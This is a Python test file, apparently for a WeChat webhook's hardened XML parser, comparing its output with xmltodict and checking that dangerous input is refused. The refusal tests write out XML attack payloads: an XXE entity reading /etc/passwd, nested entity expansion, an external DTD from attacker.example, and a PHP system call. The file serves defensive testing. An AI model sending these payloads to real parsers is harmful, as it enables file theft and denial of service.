"""``parse_xml``: xmltodict's mapping of a WeChat document, without DTDs, entities or PIs.

The webhook's own tree builder replaced xmltodict for speed (see the module doc); wechatpy and
every WeChat SDK in Python read pushes with xmltodict, so a push must mean exactly the same to
us as to them. The property test builds documents of WeChat's shape (CDATA, repeated and nested
fields, attributes, blank text between elements, Chinese text, character references) and
compares with xmltodict's result.
"""

from __future__ import annotations

from xml.sax.saxutils import escape, quoteattr

import pytest
import xmltodict
from hypothesis import given, settings
from hypothesis import strategies as st

from adapters.tencent.xml_safety import MAX_DEPTH, UnsafeXml, XmlRejected, parse_xml

NAMES = st.sampled_from(["ToUserName", "FromUserName", "MsgType", "Content", "Event", "ScanCodeInfo",
                         "ScanResult", "SendPicsInfo", "PicList", "item", "Count", "a", "b"])
TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\x00"),
               max_size=20) | st.sampled_from(["", " ", "\n  ", " 你好 ", "13800001006", "<!DOCTYPE x>", "a]]b"])
BLANK = st.sampled_from(["", " ", "\n", "\n  "])


def _text(value: str, as_cdata: bool) -> str:
    if as_cdata and "]]>" not in value:
        return f"<![CDATA[{value}]]>"
    return escape(value).replace("\r", "&#13;")


@st.composite
def element(draw, depth: int = 0) -> str:
    name = draw(NAMES)
    attrs = draw(st.dictionaries(st.sampled_from(["id", "type"]), TEXT, max_size=2)) if draw(st.booleans()) else {}
    attr_text = "".join(f" {k}={quoteattr(v)}" for k, v in attrs.items())
    if depth < 3 and draw(st.booleans()):
        children = draw(st.lists(element(depth + 1), min_size=1, max_size=4))
        gaps = [draw(BLANK) for _ in range(len(children) + 1)]
        inner = gaps[0] + "".join(c + g for c, g in zip(children, gaps[1:]))
    else:
        inner = _text(draw(TEXT), draw(st.booleans()))
    return f"<{name}{attr_text}>{inner}</{name}>"


@st.composite
def document(draw) -> str:
    children = draw(st.lists(element(), min_size=1, max_size=6))
    gap = draw(BLANK)
    decl = draw(st.sampled_from(["", '<?xml version="1.0" encoding="utf-8"?>\n']))
    return f"{decl}<xml>{gap}{gap.join(children)}{gap}</xml>"


def _xmltodict_view(doc: str):
    """xmltodict's mapping with the blank text between elements dropped (what wechatpy reads)."""
    def clean(node):
        if isinstance(node, dict):
            return {k: clean(v) for k, v in node.items() if not (k == "#text" and (v is None or not v.strip()))}
        if isinstance(node, list):
            return [clean(v) for v in node]
        return node

    return clean(xmltodict.parse(doc.encode(), strip_whitespace=False)["xml"])


@settings(max_examples=300, deadline=None)
@given(document())
def test_the_mapping_is_xmltodicts(doc):
    assert parse_xml(doc) == _xmltodict_view(doc)
    assert parse_xml(doc.encode()) == parse_xml(doc)


def test_a_text_push_and_an_event_with_nested_and_repeated_fields():
    assert parse_xml("<xml><ToUserName><![CDATA[gh_1]]></ToUserName><Content><![CDATA[  你好 ]]></Content>"
                     "<MsgId>1</MsgId><Empty></Empty></xml>") == {
        "ToUserName": "gh_1", "Content": "  你好 ", "MsgId": "1", "Empty": None}
    fields = parse_xml("<xml>\n <SendPicsInfo>\n  <Count>2</Count>\n  <PicList><item><PicMd5Sum>a</PicMd5Sum></item>"
                       "<item><PicMd5Sum>b</PicMd5Sum></item></PicList>\n </SendPicsInfo>\n</xml>")
    assert fields == {"SendPicsInfo": {"Count": "2", "PicList": {"item": [{"PicMd5Sum": "a"}, {"PicMd5Sum": "b"}]}}}


@pytest.mark.parametrize("body", [
    '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>',
    '<!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><xml><Content>&b;</Content></xml>',
    '<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><A>1</A></xml>',
    '<xml><?php system("id"); ?><A>1</A></xml>',
])
def test_dtds_entities_and_processing_instructions_are_refused(body):
    with pytest.raises(UnsafeXml):
        parse_xml(body)


def test_markup_inside_cdata_is_plain_text():
    assert parse_xml('<xml><Content><![CDATA[<!DOCTYPE x [<!ENTITY a "b">]><?php ?> &a;]]></Content></xml>') == {
        "Content": '<!DOCTYPE x [<!ENTITY a "b">]><?php ?> &a;'}


@pytest.mark.parametrize("body, why", [
    ("", "empty"), ("   ", "empty"), ("<xml><A>1</A>", "malformed"), ("<xml><A>&undefined;</A></xml>", "malformed"),
    ("<root><A>1</A></root>", "root"), ("<xml>text only</xml>", "no fields"), ("<xml/>", "no fields"),
    ('<?xml version="1.0" encoding="x-unknown"?><xml><A>1</A></xml>', "malformed"),
    ("<xml><A>1</A></xml><xml><A>2</A></xml>", "malformed"),
    ("<xml>" + "<a>" * MAX_DEPTH + "1" + "</a>" * MAX_DEPTH + "</xml>", "deeply"),
])
def test_what_wechat_never_sends_is_refused_with_a_reason(body, why):
    with pytest.raises(XmlRejected, match=why):
        parse_xml(body)


def test_nesting_up_to_the_limit_is_accepted():
    depth = MAX_DEPTH - 2  # <xml> plus this many levels stays inside MAX_DEPTH
    fields = parse_xml("<xml>" + "<a>" * depth + "1" + "</a>" * depth + "</xml>")
    for _ in range(depth - 1):
        fields = fields["a"]
    assert fields == {"a": "1"}
